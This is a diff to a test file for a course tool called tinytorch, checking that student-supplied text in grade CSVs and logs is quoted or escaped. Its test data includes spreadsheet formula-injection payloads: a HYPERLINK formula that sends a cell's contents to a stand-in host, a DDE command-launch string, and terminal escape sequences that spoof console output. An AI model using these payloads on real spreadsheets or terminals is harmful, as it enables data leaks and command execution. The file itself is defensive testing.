@@ -1,6 +1,7 @@
 """Text a student chose (a folder name, a roster name, an email) is read, never run: every CSV tinytorch writes quotes
-the cells a spreadsheet would run as formulas and reads them back exactly, and the console and the grading log show
-control characters as escapes."""
+the cells a spreadsheet would run as formulas and reads them back exactly, holds no raw control character (each one
+escaped, as the console and the grading log show it), and the console and the grading log show control characters as
+escapes."""
 import csv
 import io
 import itertools
@@ -11,7 +12,7 @@ import pytest
 from tinytorch.course.untrusted_text import csv_cell, csv_row, csv_value, printable
 
 FORMULAS = ['=1+2', '=HYPERLINK("http://e.test/?"&A1,"open")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)',
-            '\t=1', '\r=1', '\n=1', '-', '+', '@', '=', '\uff1d1+2', '-1e5x', "'=1", "''@x"]
+            '-', '+', '@', '=', '\uff1d1+2', '-1e5x', "'=1", "''@x"]
 PLAIN = ['alice', 'carol.smith@uni.edu', '3', '-3.6', '+2', '-0.5e-3', '.5', '1e6', '', "O'Brien", "'quoted", 'a=b',
          'Zoë', '2026-12-02 10:00:00+00:00']
 
@@ -32,18 +33,29 @@ def test_a_formula_is_written_as_text(text):
     assert csv_value(cell) == text
 
 
+@pytest.mark.parametrize("text, written", [('\t=1', '\\t=1'), ('\r=1', '\\r=1'), ('\n=1', '\\n=1'),
+                                           ('\x1b[2K=1', '\\x1b[2K=1'), ('a\u2028b', 'a\\u2028b')])
+def test_a_control_character_is_written_as_an_escape(text, written):
+    "No raw control character in a CSV: a tab, a line break or an escape sequence is written as `printable` shows it."
+    cell = csv_cell(text)
+    assert cell == written and not _spreadsheet_runs(cell) and cell.isprintable(), cell
+
+
 @pytest.mark.parametrize("text", PLAIN)
 def test_plain_text_and_numbers_are_written_as_they_are(text):
     assert csv_cell(text) == text and csv_value(text) == text
 
 
 def test_every_text_comes_back_exactly():
-    "The quote is undone exactly, whatever the text: also texts that start with quotes, signs and controls."
-    alphabet = ["'", '=', '-', '+', '@', '1', '.', 'e', 'a', '\t', '\r', ' ']
+    """The quote is undone exactly, whatever the text without a control character: also texts that start with quotes and
+    signs; a text with controls is written with them escaped, and never runs."""
+    alphabet = ["'", '=', '-', '+', '@', '1', '.', 'e', 'a', ' ']
     texts = [''.join(t) for n in range(5) for t in itertools.product(alphabet, repeat=n)]
     for text in texts:
         assert csv_value(csv_cell(text)) == text, repr(text)
         assert not _spreadsheet_runs(csv_cell(text)), repr(text)
+    for text in [''.join(t) for n in range(4) for t in itertools.product(["'", '=', '-', '\t', '\r', 'a'], repeat=n)]:
+        assert not _spreadsheet_runs(csv_cell(text)) and csv_cell(text).isprintable(), repr(text)
 
 
 def test_a_row_through_the_csv_writer_and_back():
@@ -82,7 +94,8 @@ def test_the_grades_csv_quotes_a_formula_folder_and_reads_it_back(tmp_path):
     path = write_grades_csv(results, tmp_path / 'grades.csv', '11_embeddings')
     firsts = [line[0] for line in csv.reader(open(path, encoding='utf-8'))][1:]
     assert firsts[:2] == ["'=1+2", "'@SUM(1)"], firsts
-    assert [r['student'] for r in read_grades_csv(path)] == ['=1+2', '@SUM(1)', '\x1b[1A\x1b[2Kmallory']
+    assert [r['student'] for r in read_grades_csv(path)] == ['=1+2', '@SUM(1)', '\\x1b[1A\\x1b[2Kmallory']   # escaped
+    assert '\x1b' not in path.read_text(encoding='utf-8')
     merged = merge_grade_csvs(tmp_path / 'merged.csv', [path])['path']
     assert sorted(merged.read_text().splitlines()) == sorted(path.read_text().splitlines())   # the merge sorts by student
     log = write_grading_log(results, tmp_path / 'grades.log', '11_embeddings').read_text()
